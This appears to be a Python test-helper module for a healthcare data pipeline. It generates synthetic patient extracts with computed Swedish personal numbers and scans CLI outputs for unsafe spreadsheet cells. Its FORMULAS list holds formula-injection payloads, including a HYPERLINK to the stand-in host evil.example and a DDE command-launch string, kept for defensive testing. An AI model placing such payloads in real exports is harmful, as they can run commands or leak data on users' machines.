"""Small hostile extracts built at run time, the real `aos` commands, and scans of every output."""
from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import load_workbook

from pipeline.ingest.personnummer import luhn_check_digit

FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "+cmd|'/c calc'!A0", "@SUM(1)", "-2+3"]
FORMULA_START = tuple("=+-@\t\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
MONTH = "2025-06"
TOML = ('region = "Testregion"\nextract_date = 2025-06-30\ndata_complete_until = 2025-06-30\n'
        'cancer_register_complete_until = 2025-03-31\n')


def personnummer(birth: dt.date, serial: int, sep: str = "-", century: bool = False,
                 samordning: bool = False) -> str:
    """A valid number computed here (never committed)."""
    yymmdd = f"{birth.year % 100:02d}{birth.month:02d}{birth.day + (60 if samordning else 0):02d}"
    ten = f"{yymmdd}{serial:03d}"
    ten += str(luhn_check_digit(ten))
    head = f"{birth.year // 100}{ten[:6]}" if century else ten[:6]
    return f"{head}{sep}{ten[6:]}"


def aos(*args, cwd=None) -> subprocess.CompletedProcess:
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    return subprocess.run([sys.executable, "-m", "pipeline.cli", *map(str, args)], capture_output=True,
                          text=True, encoding="utf-8", errors="replace", cwd=cwd, env=env, timeout=600)


def write_csv(path: Path, header: list[str], rows: list[list]) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        w.writerows(rows)


def flagged_patients(units: list[str], per_unit: int = 5) -> dict[str, list[list]]:
    """Tables in which every patient meets contact_spike and drug_rise in MONTH (on the list)."""
    pats, contacts, rx, labs = [], [], [], []
    for u_i, unit in enumerate(units):
        for k in range(per_unit):
            pid = f"P{u_i:03d}{k:02d}"
            pats.append([pid, 1950 + k, "F" if k % 2 else "M", unit])
            csv_unit = unit.replace("\x00", "")  # a NUL makes a CSV "not text"; Parquet keeps it
            contacts += [[pid, f"2025-06-{d:02d}", csv_unit, "visit", "doctor"] for d in (2, 9, 16, 23)]
            rx += [[pid, "2025-06-05", atc, "10"] for atc in ("N02BE01", "A02BC01", "C07AB02")]
            labs.append([pid, "2025-06-05", "crp", "3", "mg/L"])
    return {"patients": pats, "contacts": contacts, "prescriptions": rx, "lab_results": labs}


def write_extract(d: Path, units: list[str], patients_parquet: bool = False) -> dict[str, list[list]]:
    d.mkdir(parents=True, exist_ok=True)
    t = flagged_patients(units)
    pat_header = ["patient_id", "birth_year", "sex", "care_unit_id"]
    if patients_parquet:
        cols = list(zip(*t["patients"]))
        pq.write_table(pa.table({h: [str(v) for v in c] for h, c in zip(pat_header, cols)}), d / "patients.parquet")
    else:
        write_csv(d / "patients.csv", pat_header, t["patients"])
    write_csv(d / "contacts.csv", ["patient_id", "contact_date", "care_unit_id", "contact_type", "professional"],
              t["contacts"])
    write_csv(d / "prescriptions.csv", ["patient_id", "prescribed_date", "atc_code", "ddd"], t["prescriptions"])
    write_csv(d / "lab_results.csv", ["patient_id", "sample_date", "analyte", "value", "unit"], t["lab_results"])
    (d / "extract.toml").write_text(TOML, encoding="utf-8")
    return t


def xlsx_cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield cell


def csv_cells(path: Path):
    with path.open(encoding="utf-8", newline="") as f:
        for row in csv.reader(f):
            yield from row


def unsafe_cell(v: str) -> bool:
    """A text cell a spreadsheet would run, or one with a control/direction character."""
    return bool(UNSAFE.search(v)) or (v.startswith(FORMULA_START) and not NUMBER.fullmatch(v))


def all_text(out: Path, results=()) -> str:
    """stdout + stderr of the commands, every releasable file, report.html, the manifest and the
    xlsx cells, as one string to grep."""
    parts = [r.stdout + r.stderr for r in results]
    for p in sorted(out.rglob("*")):
        if p.is_file() and p.suffix in (".csv", ".html", ".json") and "sensitive" not in p.parts:
            parts.append(p.read_text(encoding="utf-8", errors="replace"))
    if (out / "report.xlsx").exists():
        parts += [str(c.value) for c in xlsx_cells(out / "report.xlsx") if c.value is not None]
    return "\n".join(parts)


def read_csv(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
